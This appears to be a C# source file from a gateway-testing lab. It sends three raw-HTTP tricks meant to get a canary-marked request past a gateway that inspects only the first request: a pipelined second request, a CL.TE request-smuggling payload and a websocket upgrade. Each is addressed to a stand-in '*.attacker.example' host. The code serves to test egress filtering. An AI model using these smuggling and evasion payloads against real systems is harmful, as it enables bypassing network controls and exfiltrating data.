using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Exeat.Lab.Attacks;

/// <summary>Plain HTTP that a gateway which looks once would let go on.</summary>
internal static class HttpTricks
{
    /// <summary>A permitted request, and on the same connection one for another Host, which carries the mark.</summary>
    public static Task<bool> SecondRequestAsync(AttackTarget target) => AfterFirstAsync(
        target, $"GET /canary/{target.Canary} HTTP/1.1\r\nHost: {target.Canary}.attacker.example\r\nConnection: close\r\n\r\n");

    /// <summary>A permitted request whose end servers read differently (CL.TE): the mark travels in what some of them take for the next request.</summary>
    public static Task<bool> SmuggleAsync(AttackTarget target)
    {
        string hidden = $"GET /canary/{target.Canary} HTTP/1.1\r\nHost: {target.Canary}.attacker.example\r\nConnection: close\r\n\r\n";
        return AfterFirstAsync(target, $"POST / HTTP/1.1\r\nHost: {target.Name}\r\nContent-Length: {5 + hidden.Length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}");
    }

    /// <summary>A way out of HTTP: what follows the upgrade would be nobody's request.</summary>
    public static Task<bool> UpgradeAsync(AttackTarget target) => AfterFirstAsync(
        target, $"GET /canary/{target.Canary} HTTP/1.1\r\nHost: {target.Name}\r\nConnection: Upgrade, close\r\nUpgrade: websocket\r\n\r\n");

    // Who leaves with an answer unread resets the connection, and the server may never look at what lay behind.
    private static async Task DrainAsync(Socket socket)
    {
        using var limit = new CancellationTokenSource(TimeSpan.FromSeconds(2), TimeProvider.System);
        byte[] rest = new byte[4096];
        try
        {
            while (await socket.ReceiveAsync(rest, limit.Token) > 0)
            {
            }
        }
        catch (Exception over) when (over is SocketException or OperationCanceledException)
        {
            // Reset, or kept open: there is nothing more to hear.
        }
    }

    private static async Task<bool> AfterFirstAsync(AttackTarget target, string second)
    {
        using Socket socket = await AttackTarget.ConnectAsync(new IPEndPoint(await target.ResolveAsync(), target.Port));
        using var limit = new CancellationTokenSource(AttackTarget.Patience, TimeProvider.System);
        await socket.SendAsync(Encoding.ASCII.GetBytes($"GET / HTTP/1.1\r\nHost: {target.Name}\r\n\r\n"), limit.Token);
        if (await socket.ReceiveAsync(new byte[4096], limit.Token) == 0) return false;
        await socket.SendAsync(Encoding.ASCII.GetBytes(second), limit.Token);
        int answered = await socket.ReceiveAsync(new byte[64], limit.Token);
        await DrainAsync(socket);
        return answered > 0;
    }
}
